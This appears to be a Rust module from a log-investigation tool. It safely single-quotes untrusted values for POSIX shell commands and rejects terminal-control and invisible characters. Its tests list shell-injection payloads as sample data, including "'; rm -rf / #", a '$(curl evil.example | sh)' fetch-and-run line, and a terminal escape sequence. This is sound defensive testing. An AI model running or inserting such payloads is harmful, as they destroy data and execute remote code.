//! The one way a value from the logs goes into a recommended command: [`quote`]. Values are hostile (a trail name,
//! a role name, a policy document an attacker wrote), so every value is single-quoted for a POSIX shell — inside
//! single quotes nothing is special but the quote itself, written `'\''` — and a value holding any character of
//! the hazard table (`core::text`: controls, line breaks, bidi overrides, invisible characters) is refused rather
//! than altered: a command that would reach the terminal driving it, or that reads differently from what it does,
//! is not prefilled at all (`docs/investigate.md` §5).

use crate::core::text::has_hazard;

/// Longest value placed in a command (an IAM trust policy is at most 4 096 characters, a trail name 128).
pub const MAX_VALUE_CHARS: usize = 10_240;

/// Why a value cannot be placed in a command.
#[derive(Clone, Copy, Debug, PartialEq, Eq, thiserror::Error)]
pub enum Unquotable {
    /// It holds a control, line break or invisible character.
    #[error("holds control, line-break or invisible characters")]
    Hazard,
    /// It is empty.
    #[error("is empty")]
    Empty,
    /// It is longer than [`MAX_VALUE_CHARS`].
    #[error("is longer than {MAX_VALUE_CHARS} characters")]
    TooLong,
}

/// `value` as one single-quoted POSIX shell word, or why it cannot be one.
pub fn quote(value: &str) -> Result<String, Unquotable> {
    if value.is_empty() {
        return Err(Unquotable::Empty);
    }
    if value.chars().count() > MAX_VALUE_CHARS {
        return Err(Unquotable::TooLong);
    }
    if has_hazard(value) {
        return Err(Unquotable::Hazard);
    }
    let mut out = String::with_capacity(value.len() + 2);
    out.push('\'');
    for c in value.chars() {
        if c == '\'' {
            out.push_str("'\\''");
        } else {
            out.push(c);
        }
    }
    out.push('\'');
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What `sh` makes of a single-quoted word, written independently of `quote`: the quoted runs joined, `\'`
    /// between them a literal quote.
    fn unquote(word: &str) -> String {
        let mut out = String::new();
        let mut rest = word;
        while !rest.is_empty() {
            if let Some(r) = rest.strip_prefix("\\'") {
                out.push('\'');
                rest = r;
                continue;
            }
            let r = rest.strip_prefix('\'').expect("a quoted run");
            let end = r.find('\'').expect("closing quote");
            out.push_str(&r[..end]);
            rest = &r[end + 1..];
        }
        out
    }

    #[test]
    fn hostile_values_stay_one_literal_word() {
        for v in [
            "demo-trail",
            "a'b",
            "'; rm -rf / #",
            "$(curl evil.example | sh)",
            "`id`",
            "x\\'y",
            "'",
            "''",
            "--profile=prod",
            "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Principal\":{\"AWS\":\"*\"}}]}",
            "* ? [a] ~ & | ; < > ! %",
        ] {
            let q = quote(v).unwrap();
            assert!(q.starts_with('\'') && q.ends_with('\''), "{q}");
            assert_eq!(unquote(&q), v);
            // Outside the quoted runs there is nothing but escaped quotes.
            assert!(!q.replace("'\\''", "").trim_matches('\'').contains('\''), "{q}");
        }
    }

    #[test]
    fn values_with_terminal_or_invisible_characters_are_refused() {
        for v in [
            "trail\u{1b}]0;pwned\u{7}",
            "a\nb",
            "role\rname",
            "invoice\u{202e}txt",
            "zero\u{200b}width",
            "\u{9b}31m",
        ] {
            assert_eq!(quote(v), Err(Unquotable::Hazard), "{v:?}");
        }
        assert_eq!(quote(""), Err(Unquotable::Empty));
        assert_eq!(quote(&"a".repeat(MAX_VALUE_CHARS + 1)), Err(Unquotable::TooLong));
        assert!(quote(&"a".repeat(MAX_VALUE_CHARS)).is_ok());
    }
}
